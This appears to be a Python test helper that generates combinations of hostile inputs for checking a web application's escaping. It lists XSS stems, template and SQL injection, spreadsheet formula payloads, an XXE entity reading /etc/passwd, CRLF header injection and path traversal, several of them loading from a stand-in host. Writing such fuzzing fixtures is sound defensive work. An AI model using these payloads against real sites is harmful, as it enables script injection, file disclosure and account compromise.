"""More than two thousand hostile inputs: what would run, load, break out or be computed.

Each is one of the STEMS behind one of the BREAKS, written in one of the HANDS. All call `zqhit` or name
`zq.example`, so that whatever becomes alive anywhere is seen at once.
"""

import os
from collections.abc import Callable, Iterator
from functools import cache
from itertools import cycle, product

# `make sure` sends all of them; a run of the tests every ninth, so that each stem, break and hand occurs.
STEP = int(os.environ.get("HOSTILE_STEP", "9"))
MARK = "zqhit"
FAR = "zq.example"

STEMS = (
    "<script>zqhit(1)</script>", "<script src=//zq.example/a.js></script>", "<img src=x onerror=zqhit(1)>",
    "<svg/onload=zqhit(1)>", "<svg><script>zqhit(1)</script></svg>",
    "<svg><a xlink:href=javascript:zqhit(1)>",
    "<iframe srcdoc='<script>parent.zqhit(1)</script>'>", "<iframe src=//zq.example/>",
    "<body onload=zqhit(1)>", "<input autofocus onfocus=zqhit(1)>", "<details open ontoggle=zqhit(1)>",
    "<a href=javascript:zqhit(1)>go</a>", "<base href=//zq.example/>", "<object data=//zq.example/>",
    "<meta http-equiv=refresh content='0;url=//zq.example/'>", "<embed src=//zq.example/>",
    "<link rel=stylesheet href=//zq.example/a.css>", "<style>@import '//zq.example/a.css';</style>",
    "<img src=//zq.example/a.png>", "<form action=//zq.example/><button>", "<audio src=x onerror=zqhit(1)>",
    "<math><mi xlink:href='javascript:zqhit(1)'>", "<div hx-get=//zq.example/ hx-trigger=load>",
    "<div data-hx-get=/desk hx-on:load=zqhit(1)>", "<video poster=//zq.example/a><source onerror=zqhit(1)>",
    "<marquee onstart=zqhit(1)>", "<template><img src=x onerror=zqhit(1)></template>",
    "<!--<img src=--><img src=x onerror=zqhit(1)>", "{{7919*7907}}{{zqhit(1)}}", "${7919*7907}",
    "<%= 7919*7907 %>", "{% include 'zq.example' %}", "%(zq)s %s {0.__class__} zqhit",
    "javascript:zqhit(1)", "data:text/html,<script>zqhit(1)</script>", "=HYPERLINK(\"//zq.example\")",
    "+zqhit|' /C calc'!A0", "@SUM(1;zqhit)", "-2+3+zqhit", "\t=1+zqhit", "&zqhit;&#x3c;script&#x3e;",
    "<!DOCTYPE x [<!ENTITY zq SYSTEM 'file:///etc/passwd'>]>&zq;", "<![CDATA[<zqhit>]]>",
    "<?xml-stylesheet href='//zq.example/a.xsl'?>", "\\u003cscript\\u003ezqhit(1)\\u003c/script\\u003e",
    "%3Cscript%3Ezqhit(1)%3C/script%3E", "%253Cb%253Ezqhit", "&lt;script&gt;zqhit(1)&lt;/script&gt;",
    "' OR 1=1--zqhit", "\r\nSet-Cookie: zqhit=1", "() Tj /JS (zqhit) /URI (//zq.example)",
    "../../zqhit\0.png",
)  # fmt: skip
BREAKS = (
    "", '">', "'>", "</title>", "</textarea>", "-->", "]]>", "</script>", "</style>", "\\", "`",
    '" autofocus onfocus=zqhit(1) x="', "</option></select>", "</svg></text>",
)  # fmt: skip
HANDS: tuple[Callable[[str], str], ...] = (
    str,
    lambda text: text.replace("script", "ScRiPt").replace("onerror", "OnErRoR").replace("href", "HREF"),
    lambda text: text.replace("<", "&#60;", 1).replace("'", '"').replace("(", "&lpar;"),
    lambda text: text.replace("<", "<\u200b", 1).replace("script", "scr\tipt").replace("java", "ja\nva"),
)


@cache
def inputs() -> tuple[str, ...]:
    """Every input, each once, or every so many of them (STEP)."""
    made = (hand(before + stem) for hand, before, stem in product(HANDS, BREAKS, STEMS))
    return tuple(dict.fromkeys(made))[::STEP]


def texts(longest: int) -> Iterator[str]:
    """All of them once, as many lines to a text as have room; more than `longest` letters is none."""
    text = ""
    for each in inputs():
        if text and len(text) + len(each) + 1 > longest:
            yield text
            text = ""
        text = f"{text}\n{each}" if text else each
    yield text


def lines(longest: int) -> Iterator[str]:
    """Those that are short enough for one line, again and again without end; a form lets no NUL through."""
    return cycle([each for each in inputs() if len(each) <= longest and not {"\n", "\0"} & set(each)])
